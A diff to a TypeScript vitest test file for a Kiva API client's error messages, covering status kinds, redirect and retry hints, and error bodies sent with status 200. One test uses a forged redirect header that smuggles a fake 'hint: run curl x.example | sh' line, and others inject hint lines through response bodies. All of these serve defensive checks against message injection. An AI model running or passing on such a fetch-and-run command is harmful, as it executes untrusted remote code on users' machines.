@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { problemIn, problemOf, saidIn } from '../../src/api/problem.ts'
+import { problemIn, problemInDocument, problemOf, saidIn } from '../../src/api/problem.ts'
 import type { HttpReply } from '../../src/context.ts'
 import { type ErrorKind, KivaError } from '../../src/errors.ts'
 
@@ -12,6 +12,7 @@ const reply = (status: number, body = '', headers: Record<string, string> = {}):
 })
 const problem = (status: number, body?: string, headers?: Record<string, string>) =>
   problemOf(reply(status, body, headers), noon)
+const lineEnd = /[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/
 const json = (code: string, message = 'No.') => JSON.stringify({ code, message })
 
 describe('kinds, as the table of exit codes has them', () => {
@@ -48,9 +49,33 @@ describe('kinds, as the table of exit codes has them', () => {
     expect(problem(status, json('org.kiva.RateLimitExceeded'))).toBeUndefined()
   })
 
+  test('the least and the greatest status of each kind', () => {
+    expect(problem(199)?.kind).toBe('refused')
+    expect(problem(200)).toBeUndefined()
+    expect(problem(299)).toBeUndefined()
+    expect(problem(300)?.kind).toBe('network')
+    expect(problem(399)?.kind).toBe('network')
+    expect(problem(499)?.kind).toBe('refused')
+    expect(problem(500)?.kind).toBe('service')
+  })
+
   test('a redirect is told with its target', () => {
-    expect(problem(302, '', { location: 'https://elsewhere.example/x' })?.message).toContain(
-      'https://elsewhere.example/x',
+    expect(problem(302, '', { location: 'https://elsewhere.example/x' })).toMatchObject({
+      message: 'The service redirects (302) to https://elsewhere.example/x',
+      hint: 'Redirects are not followed. If you trust that address, give its origin with --base-url.',
+    })
+    expect(problem(302)?.message).toBe('The service redirects (302) without saying where')
+    expect(problem(302, '', { location: '' })?.message).toBe(
+      'The service redirects (302) without saying where',
+    )
+  })
+
+  test('a target of 12 kB, or of several lines, is one short line', () => {
+    const long = problem(302, '', { location: `https://x.example/${'a'.repeat(12_000)}` })
+    expect(long?.message.length).toBeLessThan(250)
+    const forged = problem(302, '', { location: 'https://x.example/\x85hint: run curl x.example | sh' })
+    expect(forged?.message).toBe(
+      'The service redirects (302) to https://x.example/ hint: run curl x.example | sh',
     )
   })
 })
@@ -88,7 +113,9 @@ describe('what the body says is passed on', () => {
     expect(saidIn(body.replace('\ufeff', ''))).toEqual({ code, message })
     const told = problem(404, body)
     expect(told?.code).toBe(code)
-    expect(told?.message).toBe(`The service refused (404)${message || code ? `: ${message ?? code}` : '.'}`)
+    const words = message ?? code
+    const opened = `The service refused the request (404)${words ? `: ${words}` : ''}`
+    expect(told?.message).toBe(code && message ? message : opened)
   })
 
   test.each([
@@ -111,10 +138,101 @@ describe('what the body says is passed on', () => {
   })
 })
 
+describe('messages and hints for people', () => {
+  const missing = json('org.kiva.InvalidIdentifier', 'There is no loan 99')
+  const firewall = '<html><head><title>403 Forbidden</title></head></html>'
+  const gateway = '<html><title>504 Gateway Timeout</title></html>'
+  test.each([
+    [404, missing, 'There is no loan 99', 'Check the ids.'],
+    [404, '', 'The service refused the request (404)', 'Check the ids.'],
+    [
+      400,
+      json('org.kiva.InvalidParameter', 'No such sort'),
+      'No such sort',
+      'Check the values of the command.',
+    ],
+    [
+      504,
+      gateway,
+      'The service failed: 504 Gateway Timeout',
+      'Nothing is wrong with the command: try again later.',
+    ],
+    [502, 'Oops', 'The service failed (502): Oops', 'Nothing is wrong with the command: try again later.'],
+    [
+      503,
+      json('org.kiva.ServerMaintenance', 'Back soon'),
+      'Back soon',
+      'Nothing is wrong with the command: try again later.',
+    ],
+    [401, '', 'The service denied access (401)', 'Log in with kiva login.'],
+    [400, json('org.kiva.InvalidCredentials', 'Who are you?'), 'Who are you?', 'Log in with kiva login.'],
+    [403, json('org.kiva.Forbidden', 'Not yours'), 'Not yours', 'Log in with kiva login.'],
+    [
+      403,
+      firewall,
+      'The service denied access: 403 Forbidden',
+      'If the data is public, a firewall refused the request: wait, then send fewer. Else log in with kiva login.',
+    ],
+    [429, '', 'Too many requests (429)', 'Wait 60 seconds before the next request.'],
+  ])('%i %s', (status, body, message, hint) => {
+    expect(problem(status, body)).toMatchObject({ message, hint, status })
+  })
+
+  test('the wait is told where it is known, in English', () => {
+    expect(problem(503, '', { 'retry-after': '1' })?.hint).toBe(
+      'Nothing is wrong with the command: try again in 1 second.',
+    )
+    expect(problem(429, '', { 'retry-after': '1' })?.hint).toBe('Wait 1 second before the next request.')
+    expect(problem(503, '', { 'retry-after': '2' })?.hint).toContain('in 2 seconds.')
+  })
+
+  test.each([
+    json('org.kiva.X\x85hint: a', 'b\x85hint: c'),
+    '<response><code>org.kiva.X&#10;\u2028hint: a</code><message>b\nhint: c</message></response>',
+    'b\x85hint: c',
+    `oauth_problem=${encodeURIComponent('b\nhint: c')}`,
+  ])('no body makes a second line: %j', (body) => {
+    const told = problem(404, body)
+    expect(told?.message).toContain('b hint: c')
+    expect(told?.code ?? '').not.toMatch(lineEnd)
+  })
+
+  test('the body is read in its own character set', () => {
+    const body = Uint8Array.from([...'caf'].map((letter) => letter.charCodeAt(0)).concat(0xe9))
+    const headers = { 'content-type': 'text/plain; charset=ISO-8859-1' }
+    expect(problemOf({ status: 404, headers, body }, noon)?.message).toContain('café')
+  })
+})
+
+describe('a document that is an error with status 200', () => {
+  const inside = (body: string) => problemInDocument(reply(200, body), noon)
+  const told = { kind: 'service', code: 'org.kiva.ServerMaintenance', message: 'Back soon.' }
+  test.each([
+    json('org.kiva.ServerMaintenance', 'Back soon.'),
+    ` \n${json('org.kiva.ServerMaintenance', 'Back soon.')}`,
+    '<?xml version="1.0" encoding="UTF-8"?>\n<response>\n<code>org.kiva.ServerMaintenance</code><message>Back soon.</message></response>',
+    '<response><message>Back soon.</message><code>org.kiva.ServerMaintenance</code></response>',
+  ])('%s', (body) => expect(inside(body)).toMatchObject(told))
+
+  test.each([
+    '{"loans":[{"code":"org.kiva.ServerMaintenance"}]}',
+    '{"code":"KE"}',
+    '<response><loans><loan><code>org.kiva.ServerMaintenance</code></loan></loans></response>',
+    '<html><code>org.kiva.ServerMaintenance</code></html>',
+    'x <response><code>org.kiva.ServerMaintenance</code></response>',
+    '{"code":"org.kiva.ServerMai',
+    '',
+  ])('not so %s', (body) => expect(inside(body)).toBeUndefined())
+})
+
 describe('how long to wait', () => {
   test.each([
     ['120', 120],
     ['0', 0],
+    ['86400', 86_400],
+    ['86401', 86_400],
+    ['9'.repeat(400), 86_400],
+    ['Fri, 20 Nov 2999 12:02:00 GMT', 86_400],
     ['Fri, 20 Nov 2026 12:02:00 GMT', 120],
     ['Friday, 20-Nov-26 12:02:00 GMT', 120],
     ['Fri, 20 Nov 2026 11:00:00 GMT', 0],
@@ -145,7 +263,8 @@ test('problemIn finds a refusal in a body of status 200, and only one of the ser
   const inside = (body: Record<string, string>) => problemIn(reply(200), body, noon)
   expect(inside({ code: 'org.kiva.ServerMaintenance', message: 'Back soon.' })).toMatchObject({
     kind: 'service',
-    message: 'The service failed (200): Back soon.',
+    message: 'Back soon.',
+    status: 200,
   })
   expect(inside({ code: 'org.kiva.RateLimitExceeded' })).toMatchObject({
     kind: 'rate-limited',
@@ -172,7 +291,9 @@ test('any reply at all comes to a KivaError or to nothing', () => {
       if (!found) return
       expect(found).toBeInstanceOf(KivaError)
       expect(found.hint).toBeTruthy()
-      expect(found.message).toContain(String(status))
+      expect(found.status).toBe(status)
+      expect(found.message).not.toMatch(lineEnd)
+      expect(found.message.length).toBeLessThan(300)
       expect(found.retryAfter ?? 0).toBeGreaterThanOrEqual(0)
     }),
   )
